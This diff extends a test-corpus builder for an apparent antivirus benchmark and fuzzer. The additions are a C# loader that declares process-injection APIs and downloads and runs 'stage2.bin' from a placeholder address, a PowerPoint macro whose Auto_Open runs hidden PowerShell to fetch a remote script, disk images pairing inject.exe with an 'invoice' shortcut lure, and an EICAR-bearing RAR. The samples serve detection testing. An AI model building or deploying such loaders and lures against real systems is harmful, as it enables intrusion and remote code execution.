@@ -2,8 +2,9 @@
  * The corpus the engine benchmark and the fuzzer run on, built at run time (nothing malicious is in
  * the repository): Debian's clamav-testfiles, PEs compiled with mingw-w64 from small C sources (one
  * of them signed with a throw-away self-signed certificate), archives made with 7-Zip (AES and
- * ZipCrypto, encrypted headers), generated documents and scripts, EICAR assembled from parts,
- * random data. A missing tool skips its items with a note; nothing here downloads anything.
+ * ZipCrypto, encrypted headers), a .NET assembly compiled with Mono's mcs, ISO and FAT disk images
+ * (genisoimage, mkfs.fat + mcopy), generated documents (a PowerPoint 97 presentation with VBA), RAR 4
+ * and scripts, EICAR assembled from parts, random data. A missing tool skips its items with a note; nothing here downloads anything.
  *
  * Every item is also written to `dir` (the Python baseline reads the same files), with a manifest
  * (name, source, sha256 of each). With `reuse`, a directory holding a manifest of this builder's
@@ -19,6 +20,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { nestedPdf, pdfDocument, pdfStream } from '../src/engine/fuzz/mutators';
 import { eicar } from '../src/engine/testing/eicar';
+import { pptWithStorages, vbaProjectBin, vbaSource } from '../src/engine/testing/office-documents';
+import { rar4Archive } from '../src/engine/testing/rar-writer';
 import { minimalPe, seededBytes } from '../src/engine/testing/samples';
 import { zipArchive } from '../src/engine/testing/zip-writer';
 
@@ -56,7 +59,7 @@ export interface CorpusOptions {
 }
 
 /** Bumped whenever the items built here change, so that a reused directory is rebuilt. */
-export const CORPUS_VERSION = 1;
+export const CORPUS_VERSION = 2;
 const MANIFEST = 'corpus-manifest.json';
 
 interface Manifest {
@@ -67,6 +70,20 @@ interface Manifest {
 }
 
 const CLAMAV_DIR = '/usr/share/clamav-testfiles';
+const DOTNET_CS = `using System; using System.Net; using System.Reflection; using System.Runtime.InteropServices;
+[assembly: AssemblyVersion("1.0.0.0")]
+namespace Corpus {
+  class Loader {
+    [DllImport("kernel32.dll")] static extern IntPtr VirtualAllocEx(IntPtr p, IntPtr a, uint s, uint t, uint pr);
+    [DllImport("kernel32.dll")] static extern bool WriteProcessMemory(IntPtr p, IntPtr a, byte[] b, uint s, out UIntPtr w);
+    [DllImport("kernel32.dll")] static extern IntPtr CreateRemoteThread(IntPtr p, IntPtr a, uint s, IntPtr st, IntPtr pa, uint f, IntPtr id);
+    static void Main() {
+      byte[] stage = new WebClient().DownloadData("http://198.51.100.21/stage2.bin");
+      Assembly.Load(stage).EntryPoint.Invoke(null, null);
+    }
+  }
+}
+`;
 const MINGW = 'x86_64-w64-mingw32-gcc';
 const TOOL_TIMEOUT = 60_000;
 
@@ -230,6 +247,11 @@ function generatedItems(): { name: string; data: Uint8Array }[] {
     { name: 'zeros.bin', data: new Uint8Array(64 * 1024) },
     { name: 'random-1k.bin', data: seededBytes(1024, 11) },
     { name: 'random-256k.bin', data: seededBytes(256 * 1024, 12) },
+    { name: 'stored.rar', data: rar4Archive([{ name: 'minutes.txt', data: text('Minutes, stored in a RAR 4 archive.\n') }, { name: 'tools\\eicar.com', data: eicar() }]) },
+    {
+      name: 'macro-deck.ppt',
+      data: pptWithStorages([vbaProjectBin([{ name: 'Module1', source: vbaSource('Module1', 'Sub Auto_Open()\n  Shell "powershell -w hidden -c iwr http://198.51.100.9/p.ps1"\nEnd Sub') }])]),
+    },
   ];
   try {
     // eslint-disable-next-line @typescript-eslint/no-require-imports
@@ -358,6 +380,41 @@ export function buildCorpus(options: CorpusOptions = {}): Corpus {
       } catch (err) {
         note(`signing failed: ${(err as Error).message.split('\n')[0]}`);
       }
+    }
+
+    // A .NET assembly: P/Invoke injection APIs, a download and Assembly.Load(byte[]).
+    const mcs = which('mcs');
+    if (mcs) {
+      try {
+        writeFileSync(join(work, 'loader.cs'), DOTNET_CS);
+        run(mcs, ['-out:dotnet-loader.exe', 'loader.cs'], work);
+        addFile('dotnet-loader.exe', join(work, 'dotnet-loader.exe'), 'mcs');
+      } catch (err) {
+        note(`mcs failed: ${(err as Error).message.split('\n')[0]}`);
+      }
+    } else {
+      note('mcs not found (Debian package mono-mcs): the .NET assembly is left out');
+    }
+
+    // Disk images holding an executable and a shortcut.
+    const payload = built['inject.exe'] ?? null;
+    const genisoimage = which('genisoimage');
+    const mkfsFat = which('mkfs.fat') ?? which('/usr/sbin/mkfs.fat');
+    const mcopy = which('mcopy');
+    if (payload && genisoimage && mkfsFat && mcopy) {
+      try {
+        writeFileSync(join(work, 'invoice.lnk'), shortcut('/c start inject.exe'));
+        run(genisoimage, ['-quiet', '-J', '-R', '-o', 'delivery.iso', 'inject.exe', 'invoice.lnk'], work);
+        addFile('delivery.iso', join(work, 'delivery.iso'), 'genisoimage');
+        writeFileSync(join(work, 'floppy.img'), new Uint8Array(1440 * 1024));
+        run(mkfsFat, ['-F', '12', '-n', 'DELIVERY', 'floppy.img'], work);
+        run(mcopy, ['-i', 'floppy.img', 'inject.exe', 'invoice.lnk', '::/'], work);
+        addFile('floppy.img', join(work, 'floppy.img'), 'mkfs.fat');
+      } catch (err) {
+        note(`disk images failed: ${(err as Error).message.split('\n')[0]}`);
+      }
+    } else {
+      note('no compiled PE, or genisoimage / mkfs.fat / mcopy missing (Debian packages genisoimage, dosfstools, mtools): disk images left out');
     }
 
     // Archives made by 7-Zip from the files above.
